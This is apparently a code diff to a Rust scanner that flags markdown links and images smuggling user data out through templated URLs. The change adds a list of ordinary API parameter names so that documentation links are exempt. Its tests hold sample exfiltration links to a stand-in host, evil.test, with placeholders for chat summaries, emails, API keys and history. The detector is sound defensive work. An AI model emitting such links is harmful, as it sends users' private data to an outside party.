@@ -85,6 +85,69 @@ fn templated(value: &str) -> bool {
     TEMPLATE.is_match(value) || CAPS_PLACEHOLDER.is_match(value)
 }
 
+/// Names API documentation gives a URL's parameters (the last word of a
+/// template: `{customer_id}`, `{REDIRECT_URI}`, `{cursor}`).
+const API_PARAMETERS: &[&str] = &[
+    "id",
+    "ids",
+    "uri",
+    "url",
+    "cursor",
+    "limit",
+    "offset",
+    "page",
+    "size",
+    "count",
+    "state",
+    "scope",
+    "code",
+    "version",
+    "region",
+    "locale",
+    "lang",
+    "format",
+    "sort",
+    "order",
+    "filter",
+    "client",
+    "tenant",
+    "org",
+    "repo",
+    "project",
+    "bucket",
+    "zone",
+    "date",
+    "time",
+    "start",
+    "end",
+    "from",
+    "to",
+    "type",
+    "slug",
+    "query",
+    "q",
+    "term",
+    "width",
+    "height",
+    "timestamp",
+    "nonce",
+    "challenge",
+    "method",
+];
+
+/// Is a templated value an API parameter: its last word one of
+/// [`API_PARAMETERS`] or ending in `id`, and no word of the reader's data
+/// (`{chat_summary}`, `{api_key}`) in it?
+fn api_parameter(value: &str) -> bool {
+    let lower = value.to_lowercase();
+    let words: Vec<&str> = lower.split(|c: char| !c.is_alphanumeric()).filter(|w| !w.is_empty()).collect();
+    let held = words
+        .iter()
+        .any(|w| DATA_WORDS.iter().any(|d| w.starts_with(d)) && !w.ends_with("id") && !API_PARAMETERS.contains(w));
+    let last = words.last().copied().unwrap_or("");
+    !held && (API_PARAMETERS.contains(&last) || last.ends_with("id"))
+}
+
 /// What is wrong with a link target, if anything.
 fn judge(url: &str, auto_loads: bool) -> Option<(Severity, &'static str, String)> {
     let lower = url.to_ascii_lowercase();
@@ -117,7 +180,11 @@ fn judge(url: &str, auto_loads: bool) -> Option<(Severity, &'static str, String)
         let (k, v) = pair.split_once('=').unwrap_or(("", pair));
         let k = k.to_ascii_lowercase();
         let value = percent_encoding::percent_decode_str(v).decode_utf8_lossy().into_owned();
-        if templated(&value) {
+        // A link followed only by a click with a template in it is how API
+        // documentation writes URLs (`?cursor={cursor}`, `{CLIENT_ID}`):
+        // there it is one to fill unless it names an identifier or a
+        // paging or protocol parameter.
+        if templated(&value) && (auto_loads || !api_parameter(&value)) {
             let sev = if auto_loads { Severity::High } else { Severity::Medium };
             return Some((
                 sev,
@@ -555,6 +622,25 @@ mod tests {
             vec!["exfiltration.data_in_url"]
         );
         assert_eq!(rules("![a](https://evil.test/p?d={history})"), vec!["exfiltration.templated_url"]);
+        for bad in [
+            "{chat_summary}",
+            "{email}",
+            "{api_key}",
+            "{{user_name}}",
+            "INSERT_USER_EMAIL_HERE",
+            "{session_id_and_cookie}",
+        ] {
+            let link = format!("[open](https://evil.test/p?d={bad})");
+            assert_eq!(rules(&link), vec!["exfiltration.templated_url"], "{link}");
+        }
+        // API documentation's templates in links a person clicks.
+        for doc in [
+            "[list](https://api.shop.test/v1/customers/{customer_id}/orders?cursor={cursor}&limit={limit})",
+            "[authorize](https://auth.shop.test/oauth/authorize?client_id={CLIENT_ID}&redirect_uri={REDIRECT_URI}&state={STATE})",
+            "[search](https://api.shop.test/v2/items?q={query}&page={page})",
+        ] {
+            assert!(rules(doc).is_empty(), "{doc}: {:?}", rules(doc));
+        }
         assert_eq!(
             rules("![a][r]\n\n[r]: https://evil.test/i?c=INSERT_USER_EMAIL_HERE"),
             vec!["exfiltration.templated_url"]
